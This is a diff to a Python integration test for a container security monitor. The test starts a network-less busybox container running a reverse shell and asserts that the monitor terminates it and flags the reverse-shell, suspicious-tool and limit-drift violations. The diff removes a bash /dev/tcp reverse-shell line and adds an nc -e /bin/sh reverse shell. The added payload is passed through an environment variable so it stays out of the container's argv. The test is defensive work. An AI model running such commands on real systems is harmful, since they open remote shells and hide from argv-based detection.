@@ -16,8 +16,13 @@ from typing import Any
 import docker
 
 BUSYBOX = "sandguard/busybox:1"
-# The argv is the evidence: it never connects (the container has no network).
-REVERSE_SHELL = ["sh", "-c", "sleep 120; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]
+# A real reverse shell over loopback inside the container (no network): busybox nc -e puts
+# the socket on sh's stdin/stdout, which the kernel events show. The first sleep lets the
+# collector watch the new container before anything runs in it; the payload comes through
+# the environment so the container's own argv does not spell it (that would be the argv
+# hint, racing the first kernel event).
+REVERSE_SHELL = ["sh", "-c", 'sleep 5; eval "$PAYLOAD"']
+PAYLOAD = "(sleep 120 | nc -l -p 4444 &); sleep 1; nc 127.0.0.1 4444 -e /bin/sh; sleep 120"
 WAIT_S = 60.0
 
 
@@ -74,6 +79,7 @@ def test_run_watches_judges_enforces_and_stores(
         _wait(lambda: "sandguard" in _metrics(port), "metrics endpoint")
         container = docker_client.containers.run(
             BUSYBOX, REVERSE_SHELL, detach=True, network_mode="none", user="1000:1000",
+            environment={"PAYLOAD": PAYLOAD},
             labels={"sandguard.sandbox": "1", "test.run": run_id},
         )  # fmt: skip
         _wait(lambda: _gone(docker_client, container.id), "the reverse shell terminated")
@@ -91,7 +97,12 @@ def test_run_watches_judges_enforces_and_stores(
     )  # fmt: skip
     report = json.loads(out.stdout)["sandbox"]
     # No manager published a policy for it, so the default policy applies: its limits were
-    # not in force (drift: re-applied), and the reverse shell was terminated at once.
-    assert report["violations_by_rule"] == {"limits.drift": 1, "process.reverse_shell": 1}
+    # not in force (drift: re-applied), and the reverse shell was terminated at once; nc is a
+    # suspicious tool of its own.
+    assert report["violations_by_rule"] == {
+        "limits.drift": 1,
+        "process.reverse_shell": 1,
+        "process.suspicious": 1,
+    }
     actions = [(a["action"], a["result"]) for a in report["actions"]]
     assert ("terminate", "applied") in actions
